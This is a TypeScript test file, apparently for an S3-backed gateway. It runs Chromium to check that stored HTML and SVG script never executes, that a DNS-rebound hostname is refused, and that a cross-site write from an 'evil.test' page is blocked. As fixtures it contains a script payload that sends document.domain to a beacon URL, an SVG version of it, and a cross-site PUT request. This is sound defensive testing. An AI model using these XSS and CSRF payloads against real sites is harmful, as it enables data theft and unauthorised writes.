import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { LoadedApp } from '@mti/loader';
import type { RunningS3rver } from '../../loader/test/support/s3';
import type { TempApp } from '../../loader/test/support/tempApp';
import { launchChromium, type RealBrowser } from './support/browser';
import { OpenGateways } from './support/OpenGateways';
import { closeSeedS3App, seedS3App } from './support/seedS3App';

// What a real browser does with the gateway's answers: the hostile page, the rebound name and the
// stored HTML of issue 14, in Debian's Chromium.

let s3: RunningS3rver;
let folder: TempApp;
let app: LoadedApp;
const gateways = new OpenGateways();
let base: string;
let port: number;
let chrome: RealBrowser;
/** Hits on the beacon: a script that runs reports here. */
const beacon: string[] = [];
let beaconServer: Server;
let beaconUrl: string;
/** A page of another site, evil.test, that tries to write through the gateway. */
let evilServer: Server;
let evilPort: number;

const listen = (server: Server): Promise<number> =>
  new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));

const script = () =>
  `<script>document.title = "ran"; fetch(${JSON.stringify(beaconUrl)} + "?" + document.domain, { mode: "no-cors" });</script>`;

beforeAll(async () => {
  ({ server: s3, folder, app } = await seedS3App({ config: { prefix: 'browser' }, watch: false }));
  base = await gateways.at({ app });
  port = Number(new URL(base).port);
  beaconServer = createServer((request, response) => {
    beacon.push(request.url ?? '');
    response.end('ok');
  });
  beaconUrl = `http://127.0.0.1:${await listen(beaconServer)}/hit`;
  evilServer = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<script>
      fetch("http://127.0.0.1:${port}/api/elements/storages.MyS3/files/csrf.txt",
        { method: "PUT", mode: "no-cors", body: "written by evil.test", headers: { "content-type": "text/plain" } })
        .finally(() => { document.title = "sent"; });
    </script>`);
  });
  evilPort = await listen(evilServer);
  chrome = await launchChromium(['rebind.test', 'evil.test']);
}, 60_000);
afterAll(async () => {
  await chrome?.close();
  beaconServer?.close();
  evilServer?.close();
  await gateways.close();
  await closeSeedS3App({ server: s3, folder, app });
});

const storage = () =>
  app.getElement<{
    uploadByFile(name: string, data: Buffer, type: string): Promise<unknown>;
    exists(name: string): Promise<boolean>;
  }>('storages.MyS3');

describe('in Chromium', () => {
  it('runs the script of plain HTML (the control: the beacon can see a script run)', async () => {
    const plain = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(script());
    });
    const plainPort = await listen(plain);
    const page = await chrome.browser.newPage();
    try {
      await page.goto(`http://127.0.0.1:${plainPort}/`);
      await page.waitForFunction('document.title === "ran"');
      for (let i = 0; i < 50 && beacon.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
      expect(beacon.length).toBeGreaterThan(0);
    } finally {
      await page.close();
      plain.close();
      beacon.length = 0;
    }
  });

  it('never runs script stored in an HTML object, opened inline or not', async () => {
    await storage().uploadByFile('xss/page.html', Buffer.from(script()), 'text/html');
    await storage().uploadByFile(
      'xss/pic.svg',
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg">${script().replace('<script>', '<script><![CDATA[').replace('</script>', ']]></script>')}</svg>`,
      ),
      'image/svg+xml',
    );
    const page = await chrome.browser.newPage();
    try {
      for (const key of ['xss/page.html', 'xss/pic.svg']) {
        const url = `${base}/api/elements/storages.MyS3/files/${key}`;
        // As stored: the browser downloads it instead of rendering it.
        const download = page.waitForEvent('download');
        await page.goto(url).catch((error: Error) => expect(error.message).toMatch(/download/i));
        expect((await download).suggestedFilename()).toBe(key.split('/')[1]);
        // Asked for inline: rendered, in a sandbox with no script.
        const inline = await page.goto(`${url}?disposition=inline`);
        expect(inline?.status()).toBe(200);
        await new Promise((r) => setTimeout(r, 300));
        expect(await page.title()).not.toBe('ran');
      }
      expect(beacon).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('refuses the gateway to a page whose name was rebound to 127.0.0.1', async () => {
    const page = await chrome.browser.newPage();
    try {
      const answer = await page.goto(`http://rebind.test:${port}/api/elements`);
      expect(answer?.status()).toBe(403);
      expect(await answer?.json()).toMatchObject({ code: 'ACCESS_DENIED' });
      // The same request by the gateway's own name works: only the name differs.
      expect((await page.goto(`${base}/api/elements`))?.status()).toBe(200);
    } finally {
      await page.close();
    }
  });

  it("refuses a write sent by another site's page", async () => {
    const page = await chrome.browser.newPage();
    try {
      await page.goto(`http://evil.test:${evilPort}/`);
      await page.waitForFunction('document.title === "sent"');
      expect(await storage().exists('csrf.txt')).toBe(false);
    } finally {
      await page.close();
    }
  });
});
